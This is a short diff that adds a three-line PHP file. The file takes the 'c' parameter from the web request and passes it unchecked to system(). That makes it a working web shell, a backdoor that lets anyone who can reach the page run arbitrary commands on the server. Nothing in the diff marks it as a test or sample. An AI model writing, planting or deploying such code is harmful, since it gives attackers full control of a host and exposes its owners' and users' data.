@@ -1,0 +1,3 @@
+<?php
+$f = function () { $x = $_GET["c"]; return $x; };
+system($f());
